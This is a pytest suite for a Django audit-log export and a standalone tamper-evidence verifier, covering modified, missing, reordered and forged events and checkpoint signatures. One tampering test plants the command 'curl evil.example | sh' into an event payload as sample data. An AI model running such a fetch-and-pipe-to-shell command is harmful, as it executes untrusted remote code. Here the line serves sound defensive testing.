"""audit_export and the standalone verifier tools/verify_audit_export.py (run as a subprocess,
exactly as an auditor would: the project is not importable from where it runs)."""

from __future__ import annotations

import ast
import importlib.util
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.db import transaction

from audit.chain import checkpoint_create
from audit.log import canonical_body, event_fields, event_hash, record
from audit.models import AuditEvent
from tests.audit.test_audit_chain import Sess, make_log

pytestmark = pytest.mark.django_db

TOOL = Path(settings.BASE_DIR) / "tools" / "verify_audit_export.py"


def export(tmp_path: Path, *args: str, name: str = "export.jsonl") -> Path:
    path = tmp_path / name
    call_command("audit_export", *args, "--output", str(path), stderr=io.StringIO())
    return path


def key_file(tmp_path: Path, key: bytes | None = None) -> Path:
    path = tmp_path / "signing.key"
    path.write_bytes((key if key is not None else settings.AUDIT_SIGNING_KEY) + b"\n")
    return path


def run_tool(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess:
    # Run from an empty directory with a clean environment: nothing of the project on the path.
    return subprocess.run(
        [sys.executable, "-I", str(TOOL), *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin"},
    )


def lines(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def write_lines(path: Path, items: list[dict]) -> None:
    path.write_text("".join(json.dumps(item, ensure_ascii=False) + "\n" for item in items))


@pytest.fixture
def night(tmp_path):
    """Three sessions worked overnight; each ending signed a checkpoint."""
    make_log(sessions=3, per_session=8, system=2)
    for s in (1, 2, 3):
        checkpoint_create(reason=f"session {s} ended")
    (tmp_path / "run").mkdir()
    return tmp_path


# --- the export ------------------------------------------------------------------------------


def test_an_export_holds_a_header_every_event_with_its_hashed_fields_and_the_checkpoints(night):
    items = lines(export(night))
    header, events = items[0], [i for i in items if i["type"] == "event"]
    assert header["type"] == "export" and header["all_checkpoints"] is True
    assert len(events) == AuditEvent.objects.count() == 26
    assert len([i for i in items if i["type"] == "checkpoint"]) == 3
    stored = AuditEvent.objects.get(pk=events[0]["id"])
    fields = event_fields(stored)
    assert {k: events[0][k] for k in fields} == fields
    assert (events[0]["prev_hash"], events[0]["hash"]) == (stored.prev_hash, stored.hash)


def test_an_export_goes_to_stdout_by_default(night):
    out = io.StringIO()
    call_command("audit_export", "--session", "2", stdout=out)
    items = [json.loads(line) for line in out.getvalue().splitlines()]
    assert {i["chain"] for i in items if i["type"] == "event"} == {"s:2"}


def test_a_session_export_holds_that_chain_and_only_the_checkpoints_that_sign_it(night):
    items = lines(export(night, "--session", "2"))
    assert {i["chain"] for i in items if i["type"] == "event"} == {"s:2"}
    checkpoints = [i for i in items if i["type"] == "checkpoint"]
    assert checkpoints and all("s:2" in c["heads"] for c in checkpoints)


# --- the standalone verifier -----------------------------------------------------------------


@pytest.mark.postgres
def test_a_session_export_verifies_with_the_standalone_script(night):
    path = export(night, "--session", "2")
    done = run_tool(path, "--key-file", key_file(night), cwd=night / "run")
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.startswith("OK 8 events in 1 chains, 1 checkpoints (signatures checked)")


def test_a_full_export_verifies_with_the_standalone_script(night):
    done = run_tool(export(night), "--key-file", key_file(night), "--json", cwd=night / "run")
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads(done.stdout)
    assert (report["ok"], report["events"], report["chains"], report["checkpoints"]) == (True, 26, 4, 3)


@pytest.mark.postgres
def test_a_tampered_export_line_fails_the_standalone_script(night):
    path = export(night, "--session", "1")
    items = lines(path)
    victim = [i for i in items if i["type"] == "event"][3]
    victim["payload"]["cmd"] = "curl evil.example | sh"
    write_lines(path, items)
    done = run_tool(path, "--key-file", key_file(night), cwd=night / "run")
    assert done.returncode == 1
    assert f"modified: chain s:1, seq 4, event id {victim['id']}" in done.stdout


def test_an_export_with_its_last_events_cut_off_is_truncated(night):
    path = export(night, "--session", "3")
    items = lines(path)
    events = [i for i in items if i["type"] == "event"]
    write_lines(path, [i for i in items if i not in events[-3:]])
    done = run_tool(path, cwd=night / "run")
    assert done.returncode == 1
    assert "truncated: chain s:3, seq 6" in done.stdout
    assert "signatures NOT checked" in done.stdout


def test_an_export_with_an_event_removed_is_missing(night):
    path = export(night, "--session", "3")
    items = lines(path)
    events = [i for i in items if i["type"] == "event"]
    write_lines(path, [i for i in items if i is not events[2]])
    done = run_tool(path, cwd=night / "run")
    assert done.returncode == 1
    assert f"missing: chain s:3, seq 4, event id {events[3]['id']}" in done.stdout


def test_an_export_with_two_events_swapped_is_reordered(night):
    path = export(night, "--session", "1")
    items = lines(path)
    events = [i for i in items if i["type"] == "event"]
    a, b = events[4], events[5]
    a["seq"], b["seq"] = b["seq"], a["seq"]
    write_lines(path, items)
    done = run_tool(path, cwd=night / "run")
    assert done.returncode == 1
    assert f"reordered: chain s:1, seq 5, event id {b['id']}" in done.stdout


def test_an_event_added_to_an_export_with_a_computed_hash_is_forged(night):
    path = export(night, "--session", "1")
    items = lines(path)
    last = [i for i in items if i["type"] == "event"][-1]
    added = dict(last, id=last["id"] + 1000, seq=last["seq"] + 1, payload={"approved": True}, prev_hash="cd" * 32)
    added["hash"] = event_hash(added["prev_hash"], added)
    items.insert(items.index(last) + 1, added)
    write_lines(path, items)
    done = run_tool(path, cwd=night / "run")
    assert done.returncode == 1
    assert f"forged: chain s:1, seq 9, event id {added['id']}" in done.stdout


def test_checkpoint_heads_edited_in_an_export_are_a_bad_signature_with_the_key(night):
    path = export(night, "--session", "1")
    items = lines(path)
    checkpoint = next(i for i in items if i["type"] == "checkpoint")
    checkpoint["reason"] = "nothing to see"
    write_lines(path, items)
    assert run_tool(path, cwd=night / "run").returncode == 0  # without the key: not checkable
    done = run_tool(path, "--key-file", key_file(night), cwd=night / "run")
    assert done.returncode == 1
    assert f"bad signature: checkpoint #{checkpoint['id']}" in done.stdout


def test_the_wrong_key_makes_every_signature_bad(night):
    done = run_tool(export(night, "--session", "1"), "--key-file", key_file(night, b"not the key"), cwd=night / "run")
    assert done.returncode == 1 and "bad signature" in done.stdout


def test_a_checkpoint_line_removed_from_a_full_export_is_missing(night):
    path = export(night)
    items = lines(path)
    checkpoints = [i for i in items if i["type"] == "checkpoint"]
    write_lines(path, [i for i in items if i is not checkpoints[1]])
    done = run_tool(path, "--key-file", key_file(night), cwd=night / "run")
    assert done.returncode == 1
    assert f"missing: checkpoint #{checkpoints[2]['id']}" in done.stdout


def test_an_export_since_a_time_starts_each_chain_mid_way_and_still_verifies(night):
    cutoff = AuditEvent.objects.get(chain="s:1", seq=5).created_at
    with transaction.atomic():
        record("session.resumed", session=Sess(1), user=None)
    checkpoint_create(reason="periodic")
    path = export(night, "--since", cutoff.isoformat())
    events = [i for i in lines(path) if i["type"] == "event"]
    first_of_s1 = min(e["seq"] for e in events if e["chain"] == "s:1")
    assert 1 < first_of_s1 <= 5
    done = run_tool(path, "--key-file", key_file(night), cwd=night / "run")
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_standalone_script_cannot_verify_a_line_that_is_not_json(night):
    path = export(night, "--session", "1")
    path.write_text(path.read_text() + "{not json\n")
    done = run_tool(path, cwd=night / "run")
    assert done.returncode == 2 and "not a JSON line" in done.stderr


def test_the_standalone_script_cannot_verify_without_its_file(tmp_path):
    done = run_tool(tmp_path / "nope.jsonl", cwd=tmp_path)
    assert done.returncode == 2 and "cannot read" in done.stderr


# --- the script stands alone and computes what the project computes --------------------------


@pytest.mark.django_db(databases=[])
def test_the_standalone_script_imports_only_the_standard_library():
    tree = ast.parse(TOOL.read_text())
    imported = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imported |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom):
            imported.add((node.module or "").split(".")[0])
    assert imported <= set(sys.stdlib_module_names) | {"__future__"}, imported - set(sys.stdlib_module_names)


def test_the_standalone_hash_is_the_projects_hash(night, monkeypatch):
    spec = importlib.util.spec_from_file_location("verify_audit_export", TOOL)
    tool = importlib.util.module_from_spec(spec)
    monkeypatch.setitem(sys.modules, spec.name, tool)  # dataclasses look their module up
    spec.loader.exec_module(tool)
    for stored in AuditEvent.objects.all():
        fields = event_fields(stored)
        assert tool.canonical_json({k: fields[k] for k in tool.HASHED_FIELDS}) == canonical_body(fields)
        assert tool.event_hash(stored.prev_hash, fields) == stored.hash


def test_the_checkpoint_file_kept_outside_the_database_catches_an_export_cut_with_its_checkpoints(night):
    from audit.chain import checkpoint_export

    kept = night / "checkpoints.jsonl"
    checkpoint_export(kept)
    path = export(night, "--session", "2")
    items = lines(path)
    events = [i for i in items if i["type"] == "event"]
    cut = [i for i in items if i["type"] != "checkpoint" and i not in events[-2:]]
    write_lines(path, cut)
    assert run_tool(path, "--key-file", key_file(night), cwd=night / "run").returncode == 0  # nothing left to say
    done = run_tool(path, "--key-file", key_file(night), "--checkpoints", kept, cwd=night / "run")
    assert done.returncode == 1
    assert "truncated: chain s:2, seq 7" in done.stdout
